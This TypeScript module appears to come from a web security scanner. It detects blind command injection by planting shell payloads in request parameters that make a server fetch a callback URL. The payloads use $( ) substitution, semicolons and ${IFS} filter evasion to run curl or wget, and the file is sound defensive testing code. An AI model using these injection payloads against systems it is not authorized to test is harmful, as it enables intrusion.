import type { Observation } from '../../../model/check.ts'
import type { CallbackUrl, ProbeContext } from '../../../model/probe.ts'
import { callbackSteps } from '../../../report/evidence/callbackSteps.ts'
import { nameParameter, observeProbe, placeOf } from '../../../report/evidence/observeProbe.ts'
import type { InsertionPoint } from '../_shared/insertionPoints.ts'
import { type Attempt, requestWith } from '../_shared/requestAt.ts'

/** Each point uses callback URLs, of which a scan has 400. */
const pointsMax = 150
/** Points that are retried alone after the joint request was rejected. */
const aloneMax = 20
const waitMsMax = 5_000
const waitAgainMsMax = 2_000
const waitStepMs = 250

type CallPayload = {
  readonly name: string
  readonly write: (value: string, call: string) => string
}

const substitution: CallPayload = {
  name: 'command substitution with $( )',
  write: (value, call) => `${value}$(${call})'$(${call})'`,
}
const anyWay: CallPayload = {
  name: 'command substitution with $( ), and a semicolon',
  write: (value, call) => `${substitution.write(value, call)};${call};#';${call};#";${call};#`,
}

/**
 * Only a shell can assemble this URL, so link fetchers cannot cause a false positive. Contains no blanks, which
 * filters remove.
 */
function callOf({ url }: CallbackUrl): string {
  const rest = url.replace(/^http:/, '')
  const calls = [`curl -sm4 $u${rest}`, `wget -qT4 -O- $u${rest}`].map((call) => call.replaceAll(' ', blank))
  return `u=http:;(${calls.join('||')})2>/dev/null>&2`
}

const blank = `\${IFS}`

type Context = Pick<ProbeContext, 'send' | 'accounts' | 'left' | 'callbacks' | 'wait' | 'looks'>

export type BlindCommand = { readonly point: InsertionPoint; readonly observation: Observation }

type Called = {
  readonly point: InsertionPoint
  readonly beside: readonly InsertionPoint[]
  readonly payload: CallPayload
  readonly asked: Attempt
  readonly url: CallbackUrl
}

/**
 * Finds blind command injection: a shell requests a callback URL twice, and not for the same words without
 * shell syntax.
 *
 * Tests all parameters of a request together, each with its own URL, and the likely ones alone if that
 * request is rejected.
 */
export async function findBlindCommands(
  context: Context,
  points: readonly InsertionPoint[],
  isLikely: (point: InsertionPoint) => boolean,
): Promise<readonly BlindCommand[]> {
  const tried = points.slice(0, pointsMax)
  const groups = [...new Set(tried.map(({ entry }) => entry))].map((entry) =>
    tried.filter((point) => point.entry === entry),
  )
  const together: Called[] = []
  for (const group of groups) together.push(...(await send(context, group, anyWay)))
  const alone = together.filter((one) => isLikely(one.point) && isRefused(context, one))
  for (const { point } of alone.slice(0, aloneMax))
    together.push(...(await send(context, [point], substitution)))
  const called = await waitFor(context, together, waitMsMax)
  const first = called.filter(({ point }, index) => called.findIndex((one) => one.point === point) === index)
  const controls = await callAgain(
    context,
    first.map(({ point }) => ({ point, payload: control })),
  )
  const suspects = first.filter(({ point }) => !controls.some((one) => one.point === point))
  const again = await callAgain(context, suspects)
  return again.map((one) => ({ point: one.point, observation: observe(one) }))
}

function isRefused({ looks }: Context, { asked, beside }: Called): boolean {
  return asked.exchange.status >= 400 && beside.some(mayMatter)

  function mayMatter({ entry, parameter }: InsertionPoint): boolean {
    const look = looks.of(entry, parameter)
    return look === null || look.matters || look.breaks
  }
}

const control: CallPayload = {
  name: 'none',
  write: (value, call) => `${value} ${call.replaceAll(/[;()]/g, ' ')}`,
}

async function callAgain(
  context: Context,
  tries: readonly Pick<Called, 'point' | 'payload'>[],
): Promise<readonly Called[]> {
  const sent: Called[] = []
  for (const { point, payload } of tries) sent.push(...(await send(context, [point], payload)))
  return await waitFor(context, sent, waitAgainMsMax)
}

async function send(
  context: Context,
  points: readonly InsertionPoint[],
  payload: CallPayload,
): Promise<readonly Called[]> {
  const [first] = points
  if (first === undefined || context.callbacks === null || context.left() === 0) return []
  const values: { readonly point: InsertionPoint; readonly url: CallbackUrl; readonly value: string }[] = []
  for (const point of points) {
    const url = await context.callbacks.open()
    values.push({ point, url, value: payload.write(point.parameter.value, callOf(url)) })
  }
  const asked = await requestWith(
    context,
    first.entry,
    values.map(({ point: { parameter }, value }) => ({ parameter, value })),
  )
  return asked === null
    ? []
    : values.map(({ point, url }) => ({ point, beside: points, payload, asked, url }))
}

async function waitFor(context: Context, sent: readonly Called[], msMax: number): Promise<readonly Called[]> {
  for (let waitedMs = 0; waitedMs < msMax && sent.length > 0; waitedMs += waitStepMs) {
    if (sent.every(({ url }) => url.wasCalled())) break
    await context.wait(waitStepMs)
  }
  return sent.filter(({ url }) => url.wasCalled())
}

function observe({ point: { entry, parameter }, payload, asked, url }: Called): Observation {
  return observeProbe(asked.request, asked.exchange, {
    sample: nameParameter(entry, parameter),
    place: placeOf(entry, parameter),
    shows: null,
    steps: callbackSteps({ ...asked, url: url.url }),
    details: {
      parameter: parameter.name,
      written_with: payload.name,
      called: url.url,
      proof:
        'The server requested this callback URL, and another one before; the same words without shell syntax did not',
    },
  })
}
